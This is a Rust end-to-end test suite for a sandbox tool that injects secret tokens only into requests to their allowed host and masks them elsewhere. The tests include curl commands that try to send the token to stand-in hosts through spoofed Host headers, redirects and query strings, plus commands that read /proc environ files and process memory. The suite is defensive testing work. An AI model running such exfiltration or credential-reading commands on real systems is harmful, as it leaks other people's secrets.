//! Attacks on secrets, each on a real VM in a lab with no way out.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

use std::fs;
use std::path::Path;
use std::time::{Duration, SystemTime};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use lampyr_e2e::lab::{Lab, in_lab};
use lampyr_e2e::{Call, Process, Served, Session, TestContext, eventually, is_root};
use serde_json::{Value, json};

const MINUTE: Duration = Duration::from_mins(1);
/// What no guest is to see.
const VALUE: &str = "sk-live-5ecre7-Va1ue-0123456789";
const RULES: &str = "allow=secret.example.com,twin.example.com,good.example.com";

/// A call with a secret in its environment.
fn with_secret(lab: &Lab, call: Call) -> Call {
    let call = call.args(["--net", RULES, "--secret", "TOKEN@secret.example.com"]);
    call.env("TOKEN", VALUE).env("SSL_CERT_FILE", lab.authority()).within(MINUTE)
}

fn start<'a>(lab: &Lab, context: &'a TestContext) -> Session<'a> {
    let started = with_secret(lab, context.lampyr(["session", "start"])).finish();
    assert_eq!(started.status(), Some(0), "{started:?}");
    let printed: Value = serde_json::from_str(&started.stdout()).unwrap();
    Session::of(context, printed["sid"].as_str().unwrap())
}

/// Who has heard the value, and in what.
fn heard(lab: &Lab) -> Vec<String> {
    lab.heard(VALUE)
}

#[test]
fn a_secret_is_put_in_for_its_host_and_comes_back_as_blots() {
    in_lab("a_secret_is_put_in_for_its_host_and_comes_back_as_blots", |lab: &Lab| {
        let context = TestContext::shared();
        let session = start(lab, &context);
        let bearer = r#"-H "Authorization: Bearer $TOKEN""#;
        let blots = "*".repeat(VALUE.len());
        for path in ["echo", "chunks"] {
            let asked =
                session.sh(&format!("curl -sSi https://secret.example.com/{path} {bearer}"));
            let said = asked.success();
            assert!(said.contains(&format!("X-Echo: Bearer {blots}")), "{said}");
            assert!(said.contains(&format!("Authorization: Bearer {blots}")), "{said}");
            assert!(said.contains("Accept-Encoding: identity"), "{said}");
            assert!(!said.contains(VALUE), "{said}");
        }
        assert_eq!(heard(lab).len(), 2, "{:?}", heard(lab));
        // Who asks no variable whom to trust finds it in the image's bundle.
        let bare = "env -i curl -sS -o /dev/null https://secret.example.com/echo";
        session.sh(bare).success();
        // Python, on a connection that is kept: 20 requests, each with it.
        let many = r"
import os, socket, ssl
plain = socket.create_connection(('secret.example.com', 443), 20)
c = ssl.create_default_context().wrap_socket(plain, server_hostname='secret.example.com')
answers = c.makefile('rb')
token = os.environ['TOKEN']
for n in range(20):
    body = 'x' * n
    head = f'POST /echo HTTP/1.1\r\nHost: secret.example.com\r\nContent-Length: {n}\r\n'
    c.sendall(f'{head}Authorization: {token}\r\n\r\n{body}'.encode())
    head = [answers.readline() for _ in range(4)]
    length = int([line for line in head if line.startswith(b'Content-Length')][0].split()[1])
    print(head[0].split()[1].decode(), answers.read(length).endswith(b'x' * n))
";
        let call = session.exec("python3 -").stdin(many).within(MINUTE);
        assert_eq!(call.envelope().success(), "200 True\n".repeat(20));
        assert_eq!(heard(lab).len(), 22);
        // A command's own variable does not take the placeholder's place.
        let hidden = session.exec("true").args(["--env", "TOKEN=x"]).within(MINUTE).finish();
        assert!(
            format!("{hidden:?}").contains("'TOKEN' is a secret of the session's"),
            "{hidden:?}"
        );
        session.stop();
    });
}

#[test]
fn basic_credentials_have_the_value_inside_and_tell_nothing_of_it() {
    in_lab("basic_credentials_have_the_value_inside_and_tell_nothing_of_it", |lab: &Lab| {
        let context = TestContext::shared();
        let session = start(lab, &context);
        // Users of each length, so that the value is at each place of a group.
        for user in ["", "x", "xy", "xyz"] {
            for path in ["decoded", "chunks"] {
                let url = format!("https://secret.example.com/{path}");
                let said = session.sh(&format!(r#"curl -sSi -u "{user}:$TOKEN" {url}"#));
                let said = said.success().to_owned();
                assert_tells_nothing(&said, user);
            }
            let sent = STANDARD.encode(format!("{user}:{VALUE}"));
            assert_eq!(lab.heard(&format!("Authorization: Basic {sent}")).len(), 2);
        }
        // As a user, with a password; and from an address, as git has it.
        let others = r#"
curl -sSi -u "$TOKEN:xyz" https://secret.example.com/decoded
curl -sSi "https://x:$TOKEN@secret.example.com/decoded"
git ls-remote "https://x:$TOKEN@secret.example.com/git" 2>&1
true
"#;
        assert_tells_nothing(session.sh(others).success(), "x");
        assert_eq!(lab.heard(&STANDARD.encode(format!("{VALUE}:xyz"))).len(), 1);
        let sent = STANDARD.encode(format!("x:{VALUE}"));
        let by_git = lab.heard(&sent).into_iter().filter(|line| line.contains("User-Agent: git/"));
        assert_eq!(by_git.count(), 1, "{:?}", lab.heard("web"));
        lab.assert_silent(&format!("Authorization: {VALUE}"));
        session.stop();
    });
}

/// Requires that what a guest heard has nothing of the value, in base64 neither.
fn assert_tells_nothing(said: &str, user: &str) {
    assert!(said.contains("HTTP/1.1 200") && said.contains("*****"), "{said}");
    assert!(!said.contains(VALUE), "{said}");
    let told = STANDARD.encode(format!("{user}:{VALUE}"));
    let own = (user.len() + 1) * 8 / 6;
    for part in told.as_bytes()[own..].windows(4) {
        let part = String::from_utf8_lossy(part);
        assert!(!said.contains(&*part), "{part} of {told} in {said}");
    }
}

/// A client of a WebSocket: opens it, says each word and prints what it hears.
const CLIENT: &str = r#"
import os, socket, ssl, sys
path, words = sys.argv[1], sys.argv[2:]
plain = socket.create_connection(('secret.example.com', 443), 20)
c = ssl.create_default_context().wrap_socket(plain, server_hostname='secret.example.com')
f = c.makefile('rb')
c.sendall((f'GET {path} HTTP/1.1\r\nHost: secret.example.com\r\nConnection: Upgrade\r\n'
    'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
    'Sec-WebSocket-Extensions: permessage-deflate\r\n'
    f'Authorization: Bearer {os.environ["TOKEN"]}\r\n\r\n').encode())
head = []
while (line := f.readline().strip()):
    head += [line.decode()] if line.startswith((b'HTTP', b'Sec', b'X-Echo')) else []
print(*sorted(head), sep='\n')
def send(kind, what):
    key = os.urandom(4)
    c.sendall(bytes([0x80 | kind, 0x80 | len(what)]) + key
        + bytes(b ^ key[n % 4] for n, b in enumerate(what)))
def hear():
    message = b''
    while True:
        first, length = f.read(2)
        if length == 126:
            length = int.from_bytes(f.read(2), 'big')
        what = f.read(length)
        if first & 8:
            print(first & 15, what[-38:].decode())
        else:
            message += what
        if first == 0x88:
            send(8, what[:2])
            return print('closed')
        if first & 0x80 and not first & 8:
            return print(message.decode())
for word in words:
    send(1, os.path.expandvars(word).encode())
    hear()
print(f.read())
"#;

#[test]
fn a_websocket_is_opened_with_the_value_and_tells_blots() {
    in_lab("a_websocket_is_opened_with_the_value_and_tells_blots", |lab: &Lab| {
        let context = TestContext::shared();
        let session = start(lab, &context);
        let speak = |words: &str| {
            let call = session.exec(&format!("python3 - {words}")).stdin(CLIENT).within(MINUTE);
            call.envelope().success().to_owned()
        };
        let blots = format!("Bearer {}", "*".repeat(VALUE.len()));
        let agreed = "HTTP/1.1 101 Switching Protocols\n\
                      Sec-Websocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=";
        let said = speak("/socket hello pieces 'my $TOKEN' end");
        let pings = format!("9 {blots}\n").repeat(VALUE.len().div_ceil(10));
        let placeholder = session.sh("echo $TOKEN").success().trim().to_owned();
        let expected = format!(
            "{agreed}\nX-Echo: {blots}\nhello: {blots}\n{pings}{blots}\n\
             my {placeholder}: {blots}\n8 {blots}\nclosed\nb''\n"
        );
        assert_eq!(said, expected);
        assert_eq!(heard(lab).len(), 1, "the request alone has it: {:?}", heard(lab));
        assert_eq!(lab.heard(&format!("web socket heard \"my {placeholder}")).len(), 1);
        lab.assert_silent("permessage-deflate");
        eventually("no end", || lab.heard("web socket ended: Err(ConnectionClosed)").len() == 1);
        let refused = format!("HTTP/1.1 403 Forbidden\nSec-Websocket-Accept:\nX-Echo: {blots}");
        assert_eq!(speak("/socket/refuses"), format!("{refused}\nb''\n"));
        let lied = speak("/socket/lies");
        assert!(lied.starts_with("HTTP/1.1 502 Bad Gateway\nb'lampyr: the server "), "{lied}");
        session.stop();
    });
}

#[test]
fn a_secret_goes_nowhere_else() {
    in_lab("a_secret_goes_nowhere_else", |lab: &Lab| {
        let context = TestContext::shared();
        let session = start(lab, &context);
        let attacks = r#"
set -u
bearer="Authorization: Bearer $TOKEN"
curl -sS -o /dev/null -H "$bearer" http://good.example.com/
curl -sS -o /dev/null -H "$bearer" http://secret.example.com/
curl -sS -o /dev/null -H "X-Other: $TOKEN" https://secret.example.com/echo
curl -sS -o /dev/null -d "body=$TOKEN" "https://secret.example.com/echo?query=$TOKEN"
curl -sSk -o /dev/null -u "user:$TOKEN" https://twin.example.com/decoded
curl -sSk -o /dev/null -H "$bearer" https://twin.example.com/echo
curl -sSk -o /dev/null -H "$bearer" -H "Host: secret.example.com" https://twin.example.com/echo
curl -sS -o /dev/null -w '%{http_code}\n' -H "$bearer" -H "Host: twin.example.com" https://secret.example.com/echo
curl -sSk -o /dev/null -H "$bearer" --connect-to twin.example.com:443:secret.example.com:443 https://twin.example.com/echo
curl -sSkL -o /dev/null --location-trusted -w '%{url_effective}\n' -H "$bearer" https://secret.example.com/redirect
"#;
        let done = session.sh(attacks);
        assert_eq!(done.success(), "421\nhttps://twin.example.com/echo\n");
        let heard = heard(lab);
        // The redirect was asked for with it, and its target without.
        let to_secret =
            |line: &String| line.starts_with("web secret.example.com heard \"GET /redirect");
        assert!(heard.len() == 1 && heard.iter().all(to_secret), "{heard:?}");
        assert!(lab.heard("web twin.example.com").len() >= 4, "{:?}", lab.heard("web"));
        assert!(lab.heard("lampyr-secret-").len() >= 8, "{:?}", lab.heard("lampyr-secret-"));
        session.stop();
    });
}

#[test]
fn a_policy_that_shuts_the_host_ends_what_is_said_to_it() {
    in_lab("a_policy_that_shuts_the_host_ends_what_is_said_to_it", |lab: &Lab| {
        let context = TestContext::shared();
        let session = start(lab, &context);
        let held = session.exec("python3 -").stdin(
            r"
import os, socket, ssl
plain = socket.create_connection(('secret.example.com', 443), 20)
c = ssl.create_default_context().wrap_socket(plain, server_hostname='secret.example.com')
token = os.environ['TOKEN']
ask = f'GET /echo HTTP/1.1\r\nHost: secret.example.com\r\nAuthorization: {token}\r\n\r\n'.encode()
c.sendall(ask)
print(c.recv(15).decode(), flush=True)
open('/tmp/heard', 'w')
try:
    while c.recv(1000):
        pass
    print('closed')
except OSError as e:
    print(type(e).__name__)
",
        );
        let held = held.within(MINUTE).start();
        let answered = || session.sh("ls /tmp").success().contains("heard");
        eventually("the server has not answered", answered);
        let set =
            context.lampyr(["policy", "set", &session.sid, "--net", "allow=good.example.com"]);
        assert_eq!(set.finish().status(), Some(0));
        let said = held.finish().envelope().success().to_owned();
        // TLS tells some of those who wait of a reset, and others of an end.
        let ended =
            ["closed", "ConnectionResetError"].map(|end| format!("HTTP/1.1 200 OK\n{end}\n"));
        assert!(ended.contains(&said), "{said}");
        session.stop();
    });
}

#[test]
fn a_value_is_nowhere_but_in_its_owners_memory() {
    in_lab("a_value_is_nowhere_but_in_its_owners_memory", |lab: &Lab| {
        let (context, begun) = (TestContext::shared(), SystemTime::now());
        let session = start(lab, &context);
        let ask = r#"curl -sS https://secret.example.com/echo -H "Authorization: $TOKEN" -o /root/answer"#;
        session.sh(ask).success();
        assert_eq!(heard(lab).len(), 1);
        let seen = "env; cat /proc/*/environ | tr '\\0' '\\n'; cat /run/lampyr/*; cat /root/answer";
        let seen = session.sh(seen).success().to_owned();
        assert!(seen.contains("TOKEN=lampyr-secret-"), "{seen}");
        assert!(!seen.contains(VALUE), "{seen}");
        assert_eq!(session.row().unwrap()["secrets"], json!(["TOKEN"]));
        let owner = session.owner();
        let machine = owner.child("-machine").unwrap();
        let network = owner.child("vm-network").unwrap();
        for process in [owner, machine, network] {
            assert_private(process);
        }
        if is_root() {
            let placeholder = seen.lines().find_map(|line| line.strip_prefix("TOKEN=")).unwrap();
            assert!(memory_has(machine, placeholder.as_bytes()), "its memory was not looked at");
            let found = memory_has(machine, VALUE.as_bytes());
            assert!(!found, "the VM's process has the value in its memory");
        }
        // Not even in what the session wrote: record, spools, disk, logs.
        let written = changed_since(context.home(), begun);
        assert!(written.iter().any(|path| path.ends_with("session.json")), "{written:?}");
        for path in written {
            let bytes = fs::read(&path).unwrap_or_default();
            assert!(!has(&bytes, VALUE.as_bytes()), "the value is in {}", path.display());
        }
        session.stop();
    });
}

#[test]
fn a_run_and_a_pool_have_secrets_too() {
    in_lab("a_run_and_a_pool_have_secrets_too", |lab: &Lab| {
        let context = TestContext::shared();
        let file = tempfile::NamedTempFile::new().unwrap();
        fs::write(file.path(), format!("{VALUE}\n")).unwrap();
        let secret = format!("API_KEY=file:{}@secret.example.com:X-Key", file.path().display());
        let command = r#"curl -sS https://secret.example.com/echo -H "x-key: $API_KEY""#;
        let flags = ["--net", RULES, "--secret", &secret];
        let run = context.lampyr(["run"].iter().chain(&flags)).args([command]);
        let run = run.env("SSL_CERT_FILE", lab.authority()).within(MINUTE).envelope();
        assert!(run.success().contains(&format!("X-Key: {}", "*".repeat(VALUE.len()))));
        let pool = context.lampyr(["pool", "run", "--count", "2"].iter().chain(&flags));
        let pool =
            pool.args([command]).env("SSL_CERT_FILE", lab.authority()).within(MINUTE).finish();
        assert_eq!(pool.status(), Some(0), "{pool:?}");
        assert!(!pool.stdout().contains(VALUE));
        assert_eq!(heard(lab).len(), 3);
    });
}

#[test]
fn a_server_that_cannot_show_who_it_is_gets_nothing() {
    in_lab("a_server_that_cannot_show_who_it_is_gets_nothing", |lab: &Lab| {
        let context = TestContext::shared();
        let nobody = tempfile::NamedTempFile::new().unwrap();
        let command = r#"curl -sS https://secret.example.com/echo -H "Authorization: $TOKEN""#;
        let run = with_secret(lab, context.lampyr(["run", command]));
        let run = run.env("SSL_CERT_FILE", nobody.path()).envelope();
        let said = run.success();
        assert!(said.starts_with("lampyr: secret.example.com is not who it should be"), "{said}");
        let denied = &run["meta"]["denied"][0];
        assert_eq!(denied["reason"], "untrusted-server");
        assert_eq!(denied["host"], "secret.example.com");
        assert_eq!(heard(lab), Vec::<String>::new());
        lab.assert_silent("web secret");
    });
}

#[test]
fn a_secret_of_the_apis_goes_to_its_host_and_into_no_copy() {
    in_lab("a_secret_of_the_apis_goes_to_its_host_and_into_no_copy", |lab: &Lab| {
        let context = TestContext::shared();
        let server = Served::trusting(&context, &["--parent"], Some(lab.authority()));
        let begun = SystemTime::now();
        let secrets = json!({"TOKEN": {"host": "secret.example.com", "value": VALUE}});
        let sandbox = server.sandbox(json!({"net": RULES, "secrets": secrets}));
        let path = |sandbox: &Value, what: &str| {
            format!("/v1/sandboxes/{}/{what}", sandbox["id"].as_str().unwrap())
        };
        let ask = r#"curl -sSi https://secret.example.com/echo -H "Authorization: Bearer $TOKEN""#;
        let told = server.json("POST", &path(&sandbox, "exec"), &json!({"command": ask})).1;
        let blots = format!("X-Echo: Bearer {}", "*".repeat(VALUE.len()));
        assert!(told["stdout"].as_str().unwrap().contains(&blots), "{told}");
        assert_eq!(heard(lab).len(), 1, "{:?}", heard(lab));
        assert_private(server.process());

        let save = json!({"sandbox": sandbox["id"], "name": "of-secrets"});
        for (path, asked) in
            [(path(&sandbox, "fork"), json!({})), ("/v1/snapshots".to_owned(), save)]
        {
            let (status, told) = server.json("POST", &path, &asked);
            assert_eq!((status, &told["error"]), (409, &json!("usage")), "{told}");
        }
        let asked = json!({"with_secrets": true});
        let (status, forked) = server.json("POST", &path(&sandbox, "fork"), &asked);
        assert_eq!(status, 201, "{forked}");
        let fork = path(&forked["sandboxes"][0], "exec");
        let told = server.json("POST", &fork, &json!({"command": ask})).1;
        assert!(told["exit_code"].is_i64(), "{told}");
        assert_eq!(heard(lab).len(), 1, "the fork has it not: {:?}", heard(lab));
        for path in changed_since(context.home(), begun) {
            let bytes = fs::read(&path).unwrap_or_default();
            assert!(!has(&bytes, VALUE.as_bytes()), "{}", path.display());
        }
    });
}

/// Requires that nobody who looks at a process sees the value, and that there
/// would be no core file.
fn assert_private(process: Process) {
    let own = Path::new("/proc").join(process.pid().to_string());
    for file in ["environ", "cmdline"] {
        let bytes = fs::read(own.join(file)).unwrap();
        assert!(!has(&bytes, VALUE.as_bytes()), "{file} of {process:?}");
    }
    let limits = fs::read_to_string(own.join("limits")).unwrap();
    let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
    assert_eq!(core.split_whitespace().nth(4), Some("0"), "{core}");
}

/// Whether a process has these bytes in its memory.
fn memory_has(process: Process, bytes: &[u8]) -> bool {
    use std::os::unix::fs::FileExt;
    let own = Path::new("/proc").join(process.pid().to_string());
    let maps = fs::read_to_string(own.join("maps")).unwrap();
    let memory = fs::File::open(own.join("mem")).unwrap();
    let mut room = vec![0; 1 << 20];
    let (mut found, mut seen) = (false, 0);
    for line in maps.lines().filter(|line| line.split(' ').nth(1).unwrap().starts_with("rw")) {
        let (first, last) = line.split(' ').next().unwrap().split_once('-').unwrap();
        let end = u64::from_str_radix(last, 16).unwrap();
        let mut at = u64::from_str_radix(first, 16).unwrap();
        while at < end {
            let length = room.len().min((end - at) as usize);
            // The end of one piece is the beginning of the next.
            match memory.read_at(&mut room[..length], at) {
                Ok(n) if n > bytes.len() => {
                    found |= has(&room[..n], bytes);
                    seen += n;
                    at +=
                        if n < length || at + n as u64 >= end { n } else { n - bytes.len() } as u64;
                }
                _ => break,
            }
        }
    }
    assert!(seen > 100 << 20, "only {seen} bytes of memory were looked at");
    found
}

fn has(bytes: &[u8], what: &[u8]) -> bool {
    let mut rest = bytes;
    while let Some(at) = rest.iter().position(|byte| *byte == what[0]) {
        if rest[at..].starts_with(what) {
            return true;
        }
        rest = &rest[at + 1..];
    }
    false
}

/// All files below a directory that were written since then.
fn changed_since(dir: &Path, begun: SystemTime) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for path in lampyr_e2e::entries(dir) {
        let Ok(meta) = path.symlink_metadata() else { continue };
        if meta.is_dir() {
            found.extend(changed_since(&path, begun));
        } else if meta.is_file() && meta.modified().is_ok_and(|at| at >= begun) {
            found.push(path);
        }
    }
    found
}
